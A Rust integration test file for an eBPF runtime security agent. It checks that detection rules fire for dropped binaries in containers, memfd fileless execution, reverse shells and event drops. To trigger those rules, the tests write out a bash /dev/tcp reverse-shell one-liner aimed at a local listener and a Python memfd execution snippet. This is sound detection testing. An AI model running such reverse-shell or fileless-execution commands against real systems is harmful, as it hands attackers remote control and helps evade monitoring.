//! The agent with the eBPF source as root: a rule flags a program by name and the kill response
//! ends it. Skips when eBPF is unavailable, except under `CI=true`, where it must run.
#![cfg(all(target_os = "linux", feature = "ebpf"))]

mod support;

use rampart_runtime::agent::outputs::Collect;
use rampart_runtime::agent::{Agent, AgentOptions, Responses};
use rampart_runtime::sources::ebpf::preflight;
use std::os::unix::process::ExitStatusExt;
use std::time::{Duration, Instant};
use support::{agent_with_stable_rules, alerts_of, podman_run};

const RULES: &str = r#"
- rule: Victim started
  desc: a program the test starts
  condition: evt.type = execve and proc.name = "rampart-victim"
  output: victim started (pid=%proc.pid command=%proc.cmdline)
  priority: CRITICAL
  tags: [test]
"#;

#[test]
fn kill_response_ends_a_process_a_rule_flags() {
    if let Err(e) = preflight() {
        assert!(!rampart_testkit::in_ci(), "eBPF must run in CI: {e}");
        eprintln!("skipping: {e}");
        return;
    }
    let mut loader = rampart_runtime::Loader::new();
    loader.add_str("victim.yaml", RULES);
    let engine = rampart_runtime::Engine::new(loader.finish().expect("rules"));
    let collect = Collect::default();
    let responses = Responses::parse(
        "responses:\n  - rules: [Victim started]\n    action: kill\n    dry_run: false\n",
        "r.yaml",
    )
    .unwrap();
    let running = Agent::new(engine, AgentOptions::default())
        .output(Box::new(collect.clone()))
        .responses(responses)
        .start()
        .expect("agent starts with the eBPF source");
    let dir = tempfile::tempdir().unwrap();
    let victim = dir.path().join("rampart-victim");
    std::fs::copy("/bin/sleep", &victim).unwrap();
    let mut child = std::process::Command::new(&victim)
        .arg("60")
        .spawn()
        .unwrap();
    let pid = i64::from(child.id());
    let deadline = Instant::now() + Duration::from_secs(15);
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break Some(s);
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            break None;
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    running.stop();
    let summary = running.wait();
    assert_eq!(
        status.and_then(|s| s.signal()),
        Some(9),
        "killed by the response; {summary:?}"
    );
    let alerts = collect.alerts();
    let fired = alerts
        .iter()
        .find(|a| a.rule == "Victim started")
        .expect("rule fired");
    assert_eq!(fired.output_fields["proc.pid"], pid);
    let resp = alerts
        .iter()
        .find(|a| a.rule == "Rampart response")
        .expect("response reported");
    assert_eq!(resp.output_fields["response.result"], "ok");
    assert_eq!(resp.output_fields["proc.pid"], pid);
    assert!(summary.events[0] > 0);
}

/// Drop and execute (event-generator's `syscall.DropAndExecuteNewBinaryInContainer`): a binary
/// copied into the container's writable layer and run fires "Drop and execute new binary in
/// container" (`proc.is_exe_upper_layer`, from the overlay upper directory podman reports); the
/// image's own binaries do not. The session leader names `proc.sname`.
#[test]
fn dropped_binary_in_container_fires_the_upper_layer_rule() {
    if let Err(e) = preflight() {
        assert!(!rampart_testkit::in_ci(), "eBPF must run in CI: {e}");
        eprintln!("skipping: {e}");
        return;
    }
    let Some(mut cmd) = podman_run(&[]) else {
        return;
    };
    let (running, collect) = agent_with_stable_rules();
    cmd.args([
        "sh",
        "-c",
        // the first second lets the runtime answer the metadata lookup even on a loaded machine
        "sleep 1; cp /bin/sleep /tmp/rampart-dropped && /tmp/rampart-dropped 2",
    ]);
    let out = cmd.output().expect("podman runs");
    let found = alerts_of(&collect, "Drop and execute new binary in container");
    running.stop();
    running.wait();
    assert!(
        !found.is_empty(),
        "the rule fired; podman: {} {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        found
            .iter()
            .all(|a| a.output_fields["proc.exepath"] == "/tmp/rampart-dropped"),
        "only the dropped binary: {found:?}"
    );
    let a = &found[0];
    assert_eq!(a.output_fields["proc.sname"], "sh", "{a:?}");
    // the output's executable inode times (from the kernel at exec): the binary was written
    // around the time the process started (process start minus ctime, ns; negative when the
    // shell that exec'd it was forked before the copy)
    let int = |k: &str| {
        a.output_fields[k]
            .as_i64()
            .unwrap_or_else(|| panic!("{k}: {a:?}"))
    };
    let (ctime, mtime) = (int("proc.exe_ino.ctime"), int("proc.exe_ino.mtime"));
    assert!(
        ctime > 1_000_000_000_000_000_000 && mtime > 0 && mtime <= ctime,
        "{a:?}"
    );
    let since = int("proc.exe_ino.ctime_duration_proc_start");
    assert!(since != 0 && since.abs() < 60_000_000_000, "{a:?}");
}

/// Fileless execution (falcosecurity event-generator's `syscall.ExecutionFromMemfd`-style
/// behaviour): a program copied into a memfd and executed through `/proc/self/fd/N` fires the
/// stable rule "Fileless execution via memfd_create" through the agent.
#[test]
fn memfd_execution_fires_the_fileless_rule() {
    if let Err(e) = preflight() {
        assert!(!rampart_testkit::in_ci(), "eBPF must run in CI: {e}");
        eprintln!("skipping: {e}");
        return;
    }
    let (running, collect) = agent_with_stable_rules();
    let script = "import os\nfd = os.memfd_create('rampart-memfd', 0)\n\
                  os.write(fd, open('/bin/sleep', 'rb').read())\n\
                  os.execv('/proc/self/fd/%d' % fd, ['rampart-memfd', '1'])\n";
    let status = std::process::Command::new("python3")
        .args(["-c", script])
        .status()
        .expect("python3 runs");
    assert!(status.success());
    let found = alerts_of(&collect, "Fileless execution via memfd_create")
        .into_iter()
        .next();
    running.stop();
    running.wait();
    let a = found.expect("Fileless execution via memfd_create fired");
    let exepath = a.output_fields["proc.exepath"].as_str().unwrap_or("");
    assert_eq!(exepath, "memfd:rampart-memfd", "{a:?}");
}

/// A reverse shell in a podman container (event-generator's `syscall.RedirectStdoutStdinToNetwork`
/// behaviour): `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1` connects to a listener of the test and
/// dup2s the socket onto 0, 1 and 2 → "Redirect STDOUT/STDIN to Network Connection in Container",
/// with the socket's address and port from the descriptor table.
#[test]
fn reverse_shell_in_container_fires_the_redirect_rule() {
    if let Err(e) = preflight() {
        assert!(!rampart_testkit::in_ci(), "eBPF must run in CI: {e}");
        eprintln!("skipping: {e}");
        return;
    }
    let Some(mut cmd) = podman_run(&["--network", "host"]) else {
        return;
    };
    let (running, collect) = agent_with_stable_rules();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    // the "attacker": accept the shell and tell it to exit
    let attacker = std::thread::spawn(move || {
        use std::io::Write;
        if let Ok((mut s, _)) = listener.accept() {
            // keep the shell alive a while: the agent reads /proc for new processes
            std::thread::sleep(Duration::from_secs(2));
            let _ = s.write_all(b"exit\n");
            std::thread::sleep(Duration::from_millis(500));
        }
    });
    cmd.args([
        "bash",
        "-c",
        &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
    ]);
    let out = cmd.output().expect("podman runs");
    let _ = attacker.join();
    let rule = "Redirect STDOUT/STDIN to Network Connection in Container";
    let found = alerts_of(&collect, rule);
    running.stop();
    running.wait();
    assert!(
        !found.is_empty(),
        "{rule} fired; podman: {} {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    let a = &found[0];
    let f = |k: &str| {
        a.output_fields
            .get(k)
            .map(|v| v.to_string())
            .unwrap_or_default()
    };
    assert_eq!(f("fd.type"), "\"ipv4\"", "{a:?}");
    assert_eq!(f("fd.sip"), "\"127.0.0.1\"", "{a:?}");
    assert_eq!(f("fd.rport"), port.to_string(), "{a:?}");
    assert_eq!(f("process"), "", "output fields are keyed by field name");
    assert_eq!(a.output_fields["proc.name"], "bash");
}

/// A consumer that cannot keep up (a one-slot channel) under a burst of opens: the reader drops
/// and counts, the drop alert names the count, and the metrics file shows it.
#[test]
fn drops_raise_the_drop_alert_and_the_metric() {
    if let Err(e) = preflight() {
        assert!(!rampart_testkit::in_ci(), "eBPF must run in CI: {e}");
        eprintln!("skipping: {e}");
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let metrics = dir.path().join("metrics.prom");
    let options = AgentOptions {
        ebpf_channel: 1,
        metrics_file: Some(metrics.clone()),
        ..AgentOptions::default()
    };
    let collect = Collect::default();
    let rules = rampart_testkit::shared("testdata/falcosecurity-rules/rules/falco_rules.yaml")
        .expect("falcosecurity rules");
    let (ruleset, _) = rampart_runtime::rules::load(&[rules]).expect("rules load");
    let running = Agent::new(rampart_runtime::Engine::new(ruleset), options)
        .output(Box::new(collect.clone()))
        .start()
        .expect("agent starts");
    let burst = std::process::Command::new("python3")
        .args([
            "-c",
            "import os\nfor _ in range(20000):\n    os.close(os.open('/etc/hostname', os.O_RDONLY))",
        ])
        .status()
        .expect("python3 runs");
    assert!(burst.success());
    // the agent reports drops once a second
    let drops = support::alerts_within(
        &collect,
        "Falco internal: syscall event drop",
        Duration::from_secs(5),
    );
    let text = std::fs::read_to_string(&metrics).unwrap_or_default();
    running.stop();
    running.wait();
    let a = drops.first().expect("the drop alert");
    let n = |k: &str| a.output_fields.get(k).and_then(|v| v.as_u64()).unwrap_or(0);
    assert!(n("n_drops") > 0 && n("n_drops_channel_total") > 0, "{a:?}");
    assert_eq!(a.priority.name(), "Critical");
    let channel = text
        .lines()
        .find(|l| l.starts_with("rampart_drops_total{stage=\"channel\"}"))
        .and_then(|l| l.split_whitespace().last())
        .and_then(|v| v.parse::<u64>().ok());
    assert!(channel.is_some_and(|c| c > 0), "metrics: {text}");
}

/// A container starting while the host is busy (a steady few thousand opens/s): while the reader waits
/// for the runtime to name the new container, only that container's events are held back; the
/// host's keep flowing. So host events that happened after the container's first event arrive
/// before it, and no host event waits for the runtime's answer.
#[test]
fn a_new_container_holds_back_only_its_own_events() {
    use rampart_runtime::sources::ebpf::{EbpfSource, Options};
    use std::collections::HashMap;
    if let Err(e) = preflight() {
        assert!(!rampart_testkit::in_ci(), "eBPF must run in CI: {e}");
        eprintln!("skipping: {e}");
        return;
    }
    let name = format!("rampart-hold-{}", std::process::id());
    let Some(mut podman) = podman_run(&["--name", &name]) else {
        return;
    };
    podman.args(["sh", "-c", "cat /etc/hostname >/dev/null; sleep 1"]);
    let dir = tempfile::tempdir().expect("tempdir");
    let marker = dir.path().join("rampart-hold-marker");
    std::fs::write(&marker, b"x").expect("marker");
    let src = EbpfSource::start(Options::default()).expect("eBPF source starts");
    let load = "import os, sys, time\nend = time.time() + 4\nwhile time.time() < end:\n    \
                for _ in range(10):\n        os.close(os.open(sys.argv[1], os.O_RDONLY))\n    \
                time.sleep(0.002)\n";
    let mut host = std::process::Command::new("python3")
        .args(["-c", load])
        .arg(&marker)
        .spawn()
        .expect("python3 runs");
    let host_pid = i64::from(host.id());
    // the host load is running once the generator has the marker open (5 s at most)
    let started = Instant::now() + Duration::from_secs(5);
    let fds = format!("/proc/{host_pid}/fd");
    while Instant::now() < started
        && !std::fs::read_dir(&fds).is_ok_and(|d| {
            d.flatten()
                .any(|e| std::fs::read_link(e.path()).is_ok_and(|t| t == marker))
        })
    {
        std::thread::sleep(Duration::from_millis(1));
    }
    let container = std::thread::spawn(move || podman.output());
    let now_ns = || {
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_nanos() as i64)
            .unwrap_or(0)
    };
    let marker_name = marker.display().to_string();
    // host marker opens: (arrival, ts); containers: id -> (arrival, ts, received, named)
    let mut opens: Vec<(usize, i64)> = Vec::new();
    let mut max_latency = 0i64;
    let mut first: HashMap<String, (usize, i64, i64, bool)> = HashMap::new();
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut host_done = None;
    let mut arrival = 0usize;
    while Instant::now() < deadline {
        if host_done.is_none() && host.try_wait().ok().flatten().is_some() {
            host_done = Some(Instant::now());
        }
        if container.is_finished()
            && host_done.is_some_and(|t| t.elapsed() > Duration::from_secs(1))
        {
            break;
        }
        let Ok(ev) = src.events().recv_timeout(Duration::from_millis(50)) else {
            continue;
        };
        arrival += 1;
        let received = now_ns();
        if ev.proc.pid == host_pid && ev.fd.as_ref().is_some_and(|f| f.name == marker_name) {
            opens.push((arrival, ev.ts));
            max_latency = max_latency.max(received - ev.ts);
        } else if let Some(c) = &ev.container {
            first
                .entry(c.full_id.clone())
                .or_insert((arrival, ev.ts, received, c.name == name));
        }
        src.recycle(ev);
    }
    let out = container
        .join()
        .expect("podman thread")
        .expect("podman runs");
    let _ = host.kill();
    let _ = host.wait();
    let stats = src.stats();
    assert!(
        out.status.success(),
        "podman: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!opens.is_empty(), "host opens seen; {stats:?}");
    assert!(!first.is_empty(), "container events seen; {stats:?}");
    // per container: host opens that happened after its first event but arrived before it
    let overtaking: Vec<(usize, i64, bool)> = first
        .values()
        .map(|&(arr, ts, received, named)| {
            let n = opens.iter().filter(|&&(a, t)| t > ts && a < arr).count();
            (n, received - ts, named)
        })
        .collect();
    eprintln!(
        "host opens {}, max host latency {} ms; containers (host opens overtaking its first \
         event, its hold ms, named): {:?}; {stats:?}",
        opens.len(),
        max_latency / 1_000_000,
        overtaking
            .iter()
            .map(|(n, hold, named)| (n, hold / 1_000_000, named))
            .collect::<Vec<_>>()
    );
    assert!(
        overtaking.iter().any(|(n, _, _)| *n > 0),
        "the host's events went on while a new container was looked up: {overtaking:?}"
    );
}
